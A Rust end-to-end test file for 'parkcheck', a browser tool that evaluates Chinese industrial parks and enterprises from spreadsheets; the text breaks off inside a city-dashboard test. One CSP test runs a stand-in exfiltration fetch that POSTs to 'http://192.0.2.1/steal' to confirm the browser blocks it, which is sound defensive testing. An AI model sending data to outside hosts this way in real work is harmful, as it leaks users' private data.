//! End-to-end tests: the built site in headless Chromium, driven through the real page.
//!
//! Run with `cargo test --features e2e --test e2e` (`./dev test` does this after `trunk build`).

mod support;

use std::rc::Rc;

use parkcheck::i18n::Lang;
use parkcheck::job::apply_now as apply;
use parkcheck::report;
use parkcheck::session::{Action, Session};
use support::{Browser, Site, fixture};

/// What the native engine shows for the same input and actions: the numbers on screen must
/// equal these.
fn native_view(actions: Vec<Action>) -> report::ResultView {
    let session = actions
        .into_iter()
        .fold(Session::default(), |s, a| apply(&s, a));
    let evaluation = session.evaluate().expect("data loaded");
    report::result_view(&Rc::new(evaluation), Lang::Zh)
}

/// `link` with the character `from_end` characters before its end changed.
fn tampered(link: &str, from_end: usize) -> String {
    let mut chars: Vec<char> = link.chars().collect();
    let i = chars.len() - from_end;
    chars[i] = if chars[i] == 'A' { 'B' } else { 'A' };
    chars.into_iter().collect()
}

fn file_action(name: &str) -> Action {
    Action::FileLoaded {
        name: name.to_string(),
        bytes: Rc::new(std::fs::read(fixture(name)).expect("fixture")),
    }
}

#[tokio::test]
async fn start_screen_renders_in_chinese() {
    let browser = Browser::open_app("/").await;

    assert_eq!(browser.text("h1").await, "园区自评");
    assert_eq!(browser.text("#try-sample").await, "用示例数据试一试");
    assert_eq!(
        browser.text(".privacy").await,
        "数据只在您的浏览器中计算，不会上传"
    );
    assert!(
        browser
            .text("label[for=file-input]")
            .await
            .contains("选择文件")
    );
    let lang = browser.js("return document.documentElement.lang").await;
    assert_eq!(lang, "zh-CN");
    browser.screenshot("start-1280").await;
    browser.close().await;
}

#[tokio::test]
async fn language_toggle_switches_to_english_and_back() {
    let browser = Browser::open_app("/").await;

    browser.click(".lang-toggle").await;
    browser
        .wait_for_text("#try-sample", "Try the sample data")
        .await;
    assert_eq!(
        browser.js("return document.documentElement.lang").await,
        "en"
    );
    browser.click(".lang-toggle").await;
    browser
        .wait_for_text("#try-sample", "用示例数据试一试")
        .await;
    browser.close().await;
}

#[tokio::test]
async fn a_file_set_on_the_real_input_is_read() {
    let browser = Browser::open_app("/").await;

    browser.choose_file(&fixture("minimal.csv")).await;
    browser.wait_for_text("#data-summary", "minimal.csv").await;
    browser.close().await;
}

/// The reader worker starts, and warms up, when the pointer reaches the drop zone (on the way
/// to the file button); a file chosen after that is read by the warmed reader as by a cold one.
#[tokio::test]
async fn the_reader_warms_up_when_the_pointer_reaches_the_drop_zone() {
    use fantoccini::actions::{InputSource, MouseActions, PointerAction};
    let browser = Browser::open_app("/").await;
    let started = "return performance.getEntriesByName('parkcheck:reader-start').length";
    assert_eq!(browser.js(started).await, 0, "no reader before any intent");
    let zone = browser.wait_for(".dropzone").await;
    let hover = MouseActions::new("mouse".into()).then(PointerAction::MoveToElement {
        element: zone,
        duration: None,
        x: 0.0,
        y: 0.0,
    });
    browser
        .client
        .perform_actions(hover)
        .await
        .expect("move the pointer");
    let warm = browser
        .js_async(
            "const done = arguments[0], t0 = performance.now(); \
             const f = () => performance.getEntriesByName('parkcheck:reader-warm').length \
               ? done(true) : performance.now() - t0 > 20000 ? done(false) : setTimeout(f, 10); f()",
        )
        .await;
    assert_eq!(
        warm, true,
        "the reader warmed up after the pointer reached the drop zone"
    );
    assert_eq!(browser.js(started).await, 1, "one reader");

    browser.choose_file(&fixture("sales-in-yuan.csv")).await;
    browser
        .wait_for_text("#data-summary", "sales-in-yuan.csv")
        .await;
    let expected = native_view(vec![file_action("sales-in-yuan.csv")]);
    let first = &expected.ranking.expect("ranking").rows()[0];
    browser
        .wait_for_text("#enterprise-table tbody tr:first-child", &first.name)
        .await;
    assert_eq!(
        browser.js(started).await,
        1,
        "the warmed reader read the file"
    );
    browser.close().await;
}

/// The site works from a sub-path, loads nothing from another origin, and its
/// Content-Security-Policy refuses to send data anywhere else.
#[tokio::test]
async fn works_from_a_sub_path_under_the_csp_and_sends_nothing_away() {
    let browser = Browser::open_app("/parkcheck/").await;
    assert_eq!(browser.text("#try-sample").await, "用示例数据试一试");

    let foreign = browser
        .js("return performance.getEntriesByType('resource').map(e => e.name).filter(u => !u.startsWith(location.origin))")
        .await;
    assert_eq!(
        foreign,
        serde_json::json!([]),
        "resources from another origin"
    );

    // A fetch to another origin must be blocked by connect-src, with a CSP violation report;
    // a same-origin fetch must still work.
    let outcome = browser
        .js_async(
            r#"const done = arguments[0];
            let violation = null;
            document.addEventListener('securitypolicyviolation', e => { violation = e.effectiveDirective; });
            fetch('http://192.0.2.1/steal', { method: 'POST', body: 'x' })
              .then(() => 'sent', () => 'blocked')
              .then(async external => {
                const own = await fetch('index.html').then(r => r.ok ? 'ok' : 'http ' + r.status, () => 'failed');
                setTimeout(() => done({ external, own, violation }), 50);
              });"#,
        )
        .await;
    assert_eq!(outcome["external"], "blocked");
    assert_eq!(outcome["violation"], "connect-src");
    assert_eq!(outcome["own"], "ok");

    let csp = browser
        .js("return document.querySelector('meta[http-equiv=Content-Security-Policy]').content")
        .await;
    let csp = csp.as_str().unwrap_or_default();
    assert!(csp.contains("connect-src 'self'"), "{csp}");
    assert!(!csp.contains("unsafe-inline"), "{csp}");

    // The reader worker starts from the sub-path too, under the same policy.
    browser.click("#try-sample").await;
    browser.wait_for_text(".results-title", "2023").await;
    let worker = browser
        .js("return performance.getEntriesByType('resource').map(e => e.name).filter(u => u.includes('parkcheck-reader'))")
        .await;
    assert!(
        worker.as_array().is_some_and(|a| a
            .iter()
            .all(|u| u.as_str().is_some_and(|u| u.contains("/parkcheck/")))),
        "{worker}"
    );
    browser.close().await;
}

/// The sample button shows the DOMAIN §3 worked example: the park scorecard and the ranking.
#[tokio::test]
async fn the_sample_button_shows_the_worked_example() {
    let browser = Browser::open_app("/").await;

    browser.click("#try-sample").await;
    browser.wait_for_text(".results-title", "2023").await;
    assert_eq!(browser.text("#card-C1 .observed").await, "88.07%");
    assert_eq!(browser.text("#card-C2 .observed").await, "18.01%");
    assert!(
        browser
            .text("#card-C2 .sentence")
            .await
            .contains("1.75 亿元")
    );
    assert_eq!(browser.text("#card-C4 .observed").await, "11.80%");
    let first = browser.text("#enterprise-table tbody tr:first-child").await;
    assert!(
        first.contains("雅安锂电新材料有限公司") && first.contains("184.05"),
        "{first}"
    );
    browser.screenshot("sample-1280").await;
    browser
        .client
        .set_window_size(375, 800)
        .await
        .expect("narrow window");
    browser.screenshot("sample-375").await;
    browser
        .client
        .set_window_size(1280, 900)
        .await
        .expect("wide window");

    // The year selector re-evaluates an earlier year.
    browser.click(".year-selector .year:last-of-type").await;
    browser.wait_for_text(".results-title", "2021").await;
    browser.close().await;
}

/// A GBK CSV with a title row, a filler line and a unit line goes through the real file input.
#[tokio::test]
async fn a_gbk_csv_with_title_rows_is_evaluated() {
    let browser = Browser::open_app("/").await;

    browser.choose_file(&fixture("park-2023-gbk.csv")).await;
    browser.wait_for_text(".results-title", "2023").await;
    assert_eq!(browser.text("#card-C1 .observed").await, "88.07%");
    let first = browser.text("#enterprise-table tbody tr:first-child").await;
    assert!(
        first.contains("雅安锂电新材料有限公司") && first.contains("184.05"),
        "{first}"
    );
    assert!(
        browser
            .text("#data-summary")
            .await
            .contains("park-2023-gbk.csv")
    );
    browser.click(".data-check summary").await;
    browser.screenshot("gbk-1280").await;
    browser
        .client
        .set_window_size(375, 800)
        .await
        .expect("narrow window");
    browser.screenshot("gbk-375").await;
    browser.close().await;
}

/// A file that is not a spreadsheet gives a clear message and the page keeps working.
#[tokio::test]
async fn a_broken_file_gives_a_message_and_the_page_keeps_working() {
    let browser = Browser::open_app("/").await;

    browser
        .choose_file(&fixture("not-a-spreadsheet.xlsx"))
        .await;
    let message = browser
        .wait_for_text("[role=alert]", "not-a-spreadsheet.xlsx")
        .await;
    assert!(
        message
            .chars()
            .any(|c| ('\u{4e00}'..='\u{9fff}').contains(&c)),
        "message in Chinese: {message}"
    );
    browser.click("#try-sample").await;
    browser.wait_for_text(".results-title", "2023").await;
    browser.close().await;
}

/// Cells pasted from a spreadsheet (tab-separated) are read like a file.
#[tokio::test]
async fn pasted_cells_are_evaluated() {
    let browser = Browser::open_app("/").await;

    browser.click(".paste summary").await;
    // A paste puts the whole tab-separated text in the box at once (typing a tab would move the
    // focus instead), so the test sets the value as a paste does.
    browser.wait_for("#paste-area").await;
    browser
        .js(r#"document.querySelector('#paste-area').value =
            '企业名称\t用地面积（亩）\t营业收入（万元）\t实缴税金（万元）\t年度\n' +
            '甲公司\t10\t3000\t80\t2023\n乙公司\t20\t2000\t60\t2023\n'; return true"#)
        .await;
    browser.click("#read-paste").await;
    browser.wait_for_text(".results-title", "2023").await;
    browser.wait_for_text("#class-summary", "2").await;
    let first = browser.text("#enterprise-table tbody tr:first-child").await;
    assert!(first.contains("甲公司"), "{first}");
    browser.close().await;
}

/// A column's unit changed in the data check re-evaluates with the new unit, and the figures
/// equal the native engine's for the same choice.
#[tokio::test]
async fn a_unit_chosen_in_the_mapping_re_evaluates() {
    let browser = Browser::open_app("/").await;

    browser.choose_file(&fixture("sales-in-yuan.csv")).await;
    browser.wait_for_text(".results-title", "2023").await;
    browser.click(".data-check summary").await;
    browser.screenshot("mapping-1280").await;
    // Column C (销售额) is revenue; its numbers are in 元, not the assumed 万元.
    let unit = browser.wait_for("#map-C-unit").await;
    let choices = browser
        .js("return [...document.querySelectorAll('#map-C-unit option')].map(o => o.textContent)")
        .await;
    let yuan = choices
        .as_array()
        .and_then(|a| a.iter().position(|v| v == "元"))
        .expect("元 is offered");
    unit.select_by_index(yuan).await.expect("choose 元");
    browser.wait_for("#reset-mapping").await;

    let sheet = {
        let s = apply(&Session::default(), file_action("sales-in-yuan.csv"));
        s.ingested.as_ref().map(|i| i.report.sheets[0].name.clone())
    };
    let expected = native_view(vec![
        file_action("sales-in-yuan.csv"),
        Action::ColumnsChosen(vec![parkcheck::ingest::ColumnOverride {
            sheet,
            column: Some(2),
            target: Some(parkcheck::ingest::ColumnTarget::Field(
                parkcheck::dataset::FieldId::Revenue,
            )),
            unit: Some(parkcheck::ingest::Unit::Yuan),
            header: None,
        }]),
    ]);
    let rows = expected.ranking.expect("ranking").rows();
    let first = &rows[0];
    assert!(
        first.indicators[0].starts_with("300"),
        "甲: 3000 万元 ÷ 10 亩 = {}",
        first.indicators[0]
    );
    let row = browser
        .wait_for_text(
            "#enterprise-table tbody tr:first-child",
            &first.indicators[0],
        )
        .await;
    assert!(
        row.contains(&first.name) && row.contains(&first.score),
        "{row}"
    );
    browser.close().await;
}

/// Editing the park facts re-evaluates the criteria that use them.
#[tokio::test]
async fn a_park_facts_edit_re_evaluates() {
    let browser = Browser::open_app("/").await;

    browser.click("#try-sample").await;
    browser.wait_for_text(".results-title", "2023").await;
    assert_eq!(browser.text("#card-C5 .state").await, "达标");
    browser.click("#facts summary").await;
    let field = browser.wait_for("#fact-new-multistorey").await;
    field.clear().await.expect("clear");
    field.send_keys("1000\t").await.expect("type");
    browser.wait_for_text("#card-C5 .state", "未达标").await;
    browser.screenshot("facts-1280").await;

    let mut facts = apply(&Session::default(), Action::SampleRequested)
        .ingested
        .map(|i| i.dataset.park.clone())
        .expect("facts");
    facts.new_multistorey_area = Some(1000.0);
    let expected = native_view(vec![
        Action::SampleRequested,
        Action::FactsEdited(Box::new(facts)),
    ]);
    let c5 = &expected.park.expect("park").cards[4];
    assert_eq!(browser.text("#card-C5 .observed").await, c5.observed);
    assert!(
        browser
            .text("#facts summary")
            .await
            .contains("已按您填写的内容计算")
    );
    browser.click("#reset-facts").await;
    browser.wait_for_text("#card-C5 .state", "达标").await;
    browser.close().await;
}

/// A parameter change re-evaluates at once, shows the "modified" marker, and matches the
/// native engine with the same override.
#[tokio::test]
async fn a_parameter_change_re_evaluates_and_is_marked() {
    let browser = Browser::open_app("/").await;

    browser.click("#try-sample").await;
    browser.wait_for_text(".results-title", "2023").await;
    browser.click("#parameters summary").await;
    let input = browser.wait_for("#param-mujun-access_threshold").await;
    // Select the value and type over it, as a user would (Ctrl+A, release, type, Tab).
    input
        .send_keys("\u{E009}a\u{E000}30\t")
        .await
        .expect("type");
    browser
        .wait_for_text("#overrides", "mujun.access_threshold: 5 → 30")
        .await;
    browser.screenshot("parameters-1280").await;

    let expected = native_view(vec![
        Action::SampleRequested,
        Action::ParamSet {
            key: "mujun.access_threshold".into(),
            value: "30".into(),
        },
    ]);
    let ranking = expected.ranking.expect("ranking");
    assert!(
        browser
            .text(".ranking .filters")
            .await
            .contains(&ranking.access_label)
    );
    let shown = browser
        .js("return [...document.querySelectorAll('#enterprise-table tbody tr td:last-child')].map(td => td.textContent)")
        .await;
    let native: Vec<String> = ranking.rows().into_iter().map(|r| r.exit_label).collect();
    assert_eq!(shown, serde_json::json!(native));
    assert!(
        native.iter().any(|s| s == "清退"),
        "three years below a threshold of 30 万元/亩 means exit: {native:?}"
    );
    browser.close().await;
}

/// The working state survives a reload; "clear my data" forgets it.
#[tokio::test]
async fn the_session_survives_a_reload_until_cleared() {
    let browser = Browser::open_app("/").await;

    browser.click("#try-sample").await;
    browser.wait_for_text(".results-title", "2023").await;
    browser.click(".year-selector .year:last-of-type").await;
    browser.wait_for_text(".results-title", "2021").await;
    browser.client.refresh().await.expect("reload");
    browser.wait_for_text(".results-title", "2021").await;
    let expected = native_view(vec![Action::SampleRequested, Action::YearSelected(2021)]);
    let c1 = &expected.park.expect("park").cards[0];
    assert_eq!(browser.text("#card-C1 .observed").await, c1.observed);

    browser.click("#clear-data").await;
    browser.client.refresh().await.expect("reload");
    browser.wait_for("#try-sample").await;
    let results = browser
        .js("return document.querySelectorAll('.results').length")
        .await;
    assert_eq!(results, 0, "nothing restored after clearing");
    browser.close().await;
}

/// A ranking row opens the detail panel with the item-by-item trace; the report prints to A4
/// with the pack hash, the file fingerprint and the date.
#[tokio::test]
async fn the_detail_panel_traces_an_enterprise_and_the_report_prints() {
    let browser = Browser::open_app("/").await;

    browser.choose_file(&fixture("park-2023-gbk.csv")).await;
    browser.wait_for_text(".results-title", "2023").await;
    browser
        .click("#enterprise-table tbody tr:nth-child(2) .row-open")
        .await;
    let detail = browser.text("#enterprise-detail").await;
    assert!(
        detail.contains("亩均营业收入") && detail.contains("基准") && detail.contains("准入门槛"),
        "{detail}"
    );
    browser.screenshot("detail-1280").await;
    browser.click("#close-detail").await;

    let header = browser
        .js("return document.querySelector('.print-header').textContent")
        .await;
    let header = header.as_str().unwrap_or_default().to_string();
    let sha = apply(&Session::default(), file_action("park-2023-gbk.csv"))
        .source
        .map(|s| s.sha256)
        .expect("fingerprint");
    assert!(header.contains(&sha), "{header}");
    assert!(header.contains("sichuan-mujun"), "{header}");
    let pdf = browser
        .client
        .print(fantoccini::wd::PrintConfiguration::default())
        .await
        .expect("print to PDF");
    assert!(pdf.starts_with(b"%PDF"), "a PDF");
    let dir = std::path::PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("target/screenshots");
    std::fs::create_dir_all(&dir).expect("dir");
    std::fs::write(dir.join("report.pdf"), &pdf).expect("write pdf");
    browser.close().await;
}

/// A custom rule pack file replaces the built-in pack of its kind; the result names it.
#[tokio::test]
async fn a_custom_rule_pack_is_used_and_named() {
    let browser = Browser::open_app("/").await;

    browser.click("#try-sample").await;
    browser.wait_for_text(".results-title", "2023").await;
    browser.click("#parameters summary").await;
    browser
        .choose_file_on("#pack-input", &fixture("custom-mujun.toml"))
        .await;
    browser.wait_for_text(".packs", "yaan-mujun-2024").await;
    let text = std::fs::read_to_string(fixture("custom-mujun.toml")).expect("pack");
    let expected = native_view(vec![
        Action::SampleRequested,
        Action::PackLoaded {
            name: "custom-mujun.toml".into(),
            text,
        },
    ]);
    let ranking = expected.ranking.expect("ranking");
    assert!(
        ranking.access_label.contains('8'),
        "{}",
        ranking.access_label
    );
    browser
        .wait_for_text(".ranking .filters", &ranking.access_label)
        .await;
    browser.click("#remove-pack").await;
    browser.wait_for_text(".packs", "sichuan-mujun").await;
    browser.close().await;
}

/// Polls (in the page) until the service worker controls it.
async fn wait_for_service_worker(browser: &Browser) {
    let controlled = browser
        .js_async(
            r#"const done = arguments[0];
            const start = Date.now();
            (function poll() {
              if (navigator.serviceWorker.controller) return done(true);
              if (Date.now() - start > 15000) return done(false);
              setTimeout(poll, 100);
            })();"#,
        )
        .await;
    assert_eq!(controlled, true, "the service worker took control");
}

/// A new deployment is offered, not forced; accepting it switches to the new version and drops
/// the old cache.
#[tokio::test]
async fn a_new_version_is_offered_and_taken_cleanly() {
    let site = Site::serve("/");
    let browser = Browser::start().await;
    browser.open(&site.base_url).await;
    wait_for_service_worker(&browser).await;

    // The next deployment: the same files with a new version of sw.js.
    let next = std::env::temp_dir().join(format!("parkcheck-next-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&next);
    copy_dir(support::dist_dir(), &next);
    let sw = std::fs::read_to_string(next.join("sw.js")).expect("sw.js");
    let version = sw
        .lines()
        .find_map(|l| l.strip_prefix("const VERSION = \""))
        .and_then(|l| l.split('"').next())
        .expect("version line")
        .to_string();
    std::fs::write(next.join("sw.js"), sw.replace(&version, "parkcheck-next")).expect("write");
    site.deploy(&next);

    browser.client.refresh().await.expect("reload");
    browser.wait_for("#update-ready button").await;
    browser.click("#update-ready button").await;
    // Taking the update reloads the page, which would cut a long-running script short: poll
    // from here with short scripts instead.
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(20);
    let caches = loop {
        let keys = browser
            .client
            .execute_async(
                "const done = arguments[0]; caches.keys().then(done, () => done([]));",
                vec![],
            )
            .await
            .unwrap_or(serde_json::Value::Null);
        if keys == serde_json::json!(["parkcheck-next"]) || std::time::Instant::now() > deadline {
            break keys;
        }
        tokio::time::sleep(std::time::Duration::from_millis(200)).await;
    };
    assert_eq!(
        caches,
        serde_json::json!(["parkcheck-next"]),
        "old version {version} dropped"
    );
    browser.wait_for("#try-sample").await;
    browser.close().await;
    let _ = std::fs::remove_dir_all(&next);
}

fn copy_dir(from: &std::path::Path, to: &std::path::Path) {
    std::fs::create_dir_all(to).expect("mkdir");
    for entry in std::fs::read_dir(from).expect("read dir").flatten() {
        let path = entry.path();
        if path.is_dir() {
            copy_dir(&path, &to.join(entry.file_name()));
        } else {
            std::fs::copy(&path, to.join(entry.file_name())).expect("copy");
        }
    }
}

/// After the first visit the service worker has cached the whole app, the reader worker
/// included: with the network down, a reload opens the app and it still computes.
#[tokio::test]
async fn the_app_works_offline_after_the_first_visit() {
    let site = Site::serve("/offline/");
    let browser = Browser::start().await;
    browser.open(&site.base_url).await;
    wait_for_service_worker(&browser).await;

    site.set_online(false);
    browser.client.refresh().await.expect("reload offline");
    browser.wait_for("#try-sample").await;
    browser.click("#try-sample").await;
    browser.wait_for_text(".results-title", "2023").await;
    assert_eq!(browser.text("#card-C1 .observed").await, "88.07%");
    browser.close().await;
}

/// Makes a link of `kind` (`#make-result-link` or `#make-full-link`) in `browser` and returns it.
async fn make_link(browser: &Browser, button: &str) -> String {
    browser.click("#share summary").await;
    browser.click(button).await;
    let link = browser
        .js("return document.querySelector('#share-link').value")
        .await;
    link.as_str().unwrap_or_default().to_string()
}

/// A full-data link copied from one browser profile opens in a fresh one with the same numbers;
/// a result link opens read-only; a tampered link explains itself and the page keeps working.
#[tokio::test]
async fn links_reopen_the_same_result_in_a_fresh_browser() {
    let site = Site::serve("/");
    let sender = Browser::start().await;
    sender.open(&site.base_url).await;
    sender.click("#try-sample").await;
    sender.wait_for_text(".results-title", "2023").await;
    let full = make_link(&sender, "#make-full-link").await;
    assert!(full.contains("#v1f"), "{full}");
    let length = sender.text("#share-length").await;
    assert!(length.contains(&full.len().to_string()), "{length}");
    sender.screenshot("share-1280").await;
    sender.click("#make-result-link").await;
    let result = sender
        .js("return document.querySelector('#share-link').value")
        .await
        .as_str()
        .unwrap_or_default()
        .to_string();
    assert!(result.contains("#v1r"), "{result}");
    sender.close().await;

    let receiver = Browser::start().await;
    receiver.open(&full).await;
    receiver.wait_for_text(".results-title", "2023").await;
    assert_eq!(receiver.text("#card-C1 .observed").await, "88.07%");
    assert_eq!(receiver.text("#card-C2 .observed").await, "18.01%");
    let first = receiver
        .text("#enterprise-table tbody tr:first-child")
        .await;
    assert!(
        first.contains("雅安锂电新材料有限公司") && first.contains("184.05"),
        "{first}"
    );
    assert!(receiver.text("#link-opened").await.contains("分享链接"));

    receiver.open(&result).await;
    receiver.wait_for("#shared-result").await;
    assert_eq!(receiver.text("#card-C2 .observed").await, "18.01%");
    assert!(receiver.text("#shared-result").await.contains("只读"));

    // One character changed in the middle of the data.
    receiver.open(&tampered(&full, 40)).await;
    let message = receiver.text("#link-error").await;
    assert!(message.contains("链接"), "{message}");
    receiver.click("#try-sample").await;
    receiver.wait_for_text(".results-title", "2023").await;
    receiver.close().await;
}

/// A passphrase-protected link asks for the passphrase; a wrong one is refused in Chinese.
#[tokio::test]
async fn a_protected_link_needs_its_passphrase() {
    let site = Site::serve("/");
    let sender = Browser::start().await;
    sender.open(&site.base_url).await;
    sender.click("#try-sample").await;
    sender.wait_for_text(".results-title", "2023").await;
    sender.click("#share summary").await;
    let input = sender.wait_for("#share-passphrase").await;
    input.send_keys("雅安2024").await.expect("type");
    sender.click("#make-full-link").await;
    let link = sender
        .js("return document.querySelector('#share-link').value")
        .await
        .as_str()
        .unwrap_or_default()
        .to_string();
    assert!(link.contains("#v1x"), "{link}");
    sender.close().await;

    let receiver = Browser::start().await;
    receiver.open(&link).await;
    let field = receiver.wait_for("#link-passphrase").await;
    field.send_keys("wrong").await.expect("type");
    receiver.click("#open-link").await;
    receiver.wait_for("#link-error").await;
    field.clear().await.expect("clear");
    field.send_keys("雅安2024").await.expect("type");
    receiver.click("#open-link").await;
    receiver.wait_for_text(".results-title", "2023").await;
    assert_eq!(receiver.text("#card-C1 .observed").await, "88.07%");
    receiver.close().await;
}

/// The city view (issue 7): several parks' files through the real multiple file input, compared
/// with the native engine reading the same files (`ingest::load` → `city::parks_from_file` →
/// `City::evaluate` → `report::city::city_view`), and the browser's figure for the city
/// benchmark (20 parks × 500 enterprises × 3 years).
mod city_view {
    use std::path::PathBuf;

    use parkcheck::city::{BenchmarkScope, City, CityOptions, parks_from_file};
    use parkcheck::i18n::Lang;
    use parkcheck::ingest::{self, IngestOptions, SourceOptions};
    use parkcheck::report::city::{CityView, city_view};
    use serde_json::{Value, json};

    use super::support::{Browser, fixture};

    const THREE: [&str; 3] = [
        "park-a-yaan.xlsx",
        "park-b-mingshan.xlsx",
        "park-c-hanyuan.xlsx",
    ];

    fn city_fixture(name: &str) -> PathBuf {
        fixture(&format!("city/{name}"))
    }

    /// A file read natively as the city reads it: its name, bytes and what ingest made of it.
    fn read_city_file(path: &std::path::Path) -> (String, Vec<u8>, ingest::Ingested) {
        let name = path
            .file_name()
            .map(|n| n.to_string_lossy().into_owned())
            .unwrap_or_default();
        let bytes = std::fs::read(path).expect("fixture");
        let ingested = ingest::load(
            &bytes,
            &name,
            &SourceOptions::default(),
            &IngestOptions::default(),
        )
        .expect("a readable file");
        (name, bytes, ingested)
    }

    /// What the native engine shows for the same files, in Chinese.
    fn native(paths: &[PathBuf], benchmarks: BenchmarkScope) -> CityView {
        native_in(paths, benchmarks, Lang::Zh)
    }

    /// What the native engine shows for the same files, in `lang`.
    fn native_in(paths: &[PathBuf], benchmarks: BenchmarkScope, lang: Lang) -> CityView {
        let mut parks = Vec::new();
        let mut diagnostics = Vec::new();
        for path in paths {
            let (name, _, ingested) = read_city_file(path);
            let (p, d) = parks_from_file(&name, ingested);
            parks.extend(p);
            diagnostics.extend(d);
        }
        let evaluation = City::builtin().evaluate(parks, None, &[], CityOptions { benchmarks });
        city_view(&evaluation, &diagnostics, lang)
    }

    /// Sets several files at once on the multiple input `#city-input`, as a user choosing them
    /// together would (WebDriver takes the paths separated by newlines).
    async fn choose_files(browser: &Browser, paths: &[PathBuf]) {
        let joined = paths
            .iter()
            .map(|p| {
                p.canonicalize()
                    .expect("file path")
                    .to_string_lossy()
                    .into_owned()
            })
            .collect::<Vec<_>>()
            .join("\n");
        browser
            .wait_for("#city-input")
            .await
            .send_keys(&joined)
            .await
            .expect("set files on the input");
    }

    /// Scrolls the element matching `css` to the top of the window and takes a screenshot.
    async fn screenshot_at(browser: &Browser, css: &str, name: &str) {
        browser.wait_for(css).await;
        browser
            .js(&format!(
                "document.querySelector('{css}').scrollIntoView({{block: 'start'}}); return 0"
            ))
            .await;
        browser.screenshot(name).await;
    }

    /// Whether the page scrolls sideways, and if so which elements stick out of the window
    /// (outside the tables' own scroll areas, or positioned out of them); empty when it fits.
    async fn wider_than_the_window(browser: &Browser) -> Value {
        browser
            .js(r#"const w = document.documentElement.clientWidth;
                const sw = document.documentElement.scrollWidth;
                if (sw <= w + 1) return [];
                const out = [...document.querySelectorAll('body *')]
                  .filter(e => e.getBoundingClientRect().right > w + 1)
                  .filter(e => !e.closest('.table-scroll') || getComputedStyle(e).position === 'absolute')
                  .slice(0, 8)
                  .map(e => `${e.tagName.toLowerCase()}#${e.id}.${e.className} ${Math.round(e.getBoundingClientRect().right)}`);
                return [`the page is ${sw} px wide in a ${w} px window`, ...out]"#)
            .await
    }

    /// The dashboard rows as the page shows them.
    async fn screen_rows(browser: &Browser) -> Value {
        browser
            .js(r#"return [...document.querySelectorAll('#city-table tbody tr')].map(tr => ({
                park: tr.dataset.park,
                states: [...tr.querySelectorAll('td.crit')].map(td => td.dataset.state),
                values: [...tr.querySelectorAll('td.crit')].map(td => td.querySelector('.val')?.textContent ?? ''),
                overall: tr.querySelector('.overall-tag').textContent,
                status: tr.querySelector('.status-cell').textContent,
                mu_revenue: tr.querySelector('.mu-revenue').textContent,
                growth: tr.querySelector('.growth').textContent,
                a_share: tr.querySelector('.a-share').textContent,
            }))"#)
            .await
    }

    fn native_rows(view: &CityView, order: &[usize]) -> Value {
        Value::Array(
            order
                .iter()
                .map(|&i| {
                    let r = &view.rows[i];
                    json!({
                        "park": r.label,
                        "states": r.cells.iter().map(|c| c.state_id).collect::<Vec<_>>(),
                        "values": r.cells.iter().map(|c| c.value.clone()).collect::<Vec<_>>(),
                        "overall": r.overall_label,
                        "status": r.status_label,
                        "mu_revenue": r.mu_revenue,
                        "growth": r.growth,
                        "a_share": r.a_share,
                    })
                })
                .collect(),
        )
    }

    /// The ranking rows as the page shows them (first page), cell by cell.
    async fn screen_ranking(browser: &Browser) -> Value {
        browser
            .js("return [...document.querySelectorAll('#city-ranking tbody tr')].map(tr => [...tr.children].map(c => c.textContent.trim()))")
            .await
    }

    fn native_ranking(view: &CityView) -> Value {
        Value::Array(
            view.ranking
                .rows
                .iter()
                .take(100)
                .map(|r| {
                    let mut cells = vec![
                        r.rank.clone(),
                        r.park.clone(),
                        r.name.clone(),
                        r.class_label.clone(),
                        r.score.clone(),
                    ];
                    cells.extend(r.indicators.iter().cloned());
                    cells.push(r.exit_label.clone());
                    json!(cells)
                })
                .collect(),
        )
    }

    /// Three park files chosen at once: the goal line, the closest park and every dashboard row
    /// equal the native engine's; sorting and filtering work on the page; city-wide benchmarks
    /// turn the ranking into the native city-wide one.
    #[tokio::test]
    async fn three_park_files_chosen_at_once_give_the_native_city() {
        let browser = Browser::open_app("/").await;
        browser.click("#mode-city").await;
        let paths: Vec<PathBuf> = THREE.iter().map(|n| city_fixture(n)).collect();
        choose_files(&browser, &paths).await;

        let expected = native(&paths, BenchmarkScope::Park);
        assert_eq!(expected.goal, "已达标 1 个，距目标还差 2 个");
        browser.wait_for_text("#city-goal", &expected.goal).await;
        assert_eq!(browser.text("#city-goal").await, expected.goal);
        assert_eq!(
            Some(browser.text("#city-closest").await),
            expected.closest.clone()
        );
        assert_eq!(
            browser
                .text("#city-files")
                .await
                .matches("1 个园区")
                .count(),
            3,
            "each file is one park"
        );
        let all: Vec<usize> = (0..expected.rows.len()).collect();
        assert_eq!(screen_rows(&browser).await, native_rows(&expected, &all));
        assert_eq!(screen_ranking(&browser).await, native_ranking(&expected));
        assert!(
            browser
                .text("#city-ranking-summary")
                .await
                .starts_with("各园区分别计算基准")
        );
        // One chart per key indicator, each with the parks against its threshold.
        let charts = browser
            .js("return [...document.querySelectorAll('.city-charts figure')].map(f => f.id)")
            .await;
        assert_eq!(
            charts,
            json!(expected.charts.iter().map(|c| c.id).collect::<Vec<_>>())
        );
        for width in [1280, 375] {
            browser
                .client
                .set_window_size(width, if width > 600 { 900 } else { 800 })
                .await
                .expect("window size");
            screenshot_at(&browser, "body", &format!("city-{width}")).await;
            screenshot_at(
                &browser,
                "#city-dashboard-title",
                &format!("city-{width}-table"),
            )
            .await;
            screenshot_at(
                &browser,
                "#city-charts-title",
                &format!("city-{width}-charts"),
            )
            .await;
            screenshot_at(
                &browser,
                "#city-ranking-title",
                &format!("city-{width}-ranking"),
            )
            .await;
            assert_eq!(
                wider_than_the_window(&browser).await,
                json!([]),
                "nothing but the tables' own scroll areas is wider than {width} px"
            );
        }
        browser
            .client
            .set_window_size(1280, 900)
            .await
            .expect("wide window");

        // Sort by urgency, then keep only the parks short on C2.
        browser
            .wait_for("#city-sort")
            .await
            .select_by_value("status")
            .await
            .expect("sort");
        let order = expected.select(
            parkcheck::city::SortKey::Status,
            &parkcheck::city::Filter::All,
        );
        browser
            .wait_for_text(
                "#city-table tbody tr:first-child",
                &expected.rows[order[0]].label,
            )
            .await;
        assert_eq!(screen_rows(&browser).await, native_rows(&expected, &order));
        browser
            .wait_for("#city-filter")
            .await
            .select_by_value("failing:C2")
            .await
            .expect("filter");
        browser.wait_for_text("#city-shown", "1 / 3").await;
        let rows = screen_rows(&browser).await;
        assert_eq!(rows[0]["park"], "名山经济开发区");

        // City-wide benchmarks: one ranking over all parks' enterprises.
        browser.click("#city-benchmarks").await;
        browser
            .wait_for_text("#city-ranking-summary", "全市统一基准")
            .await;
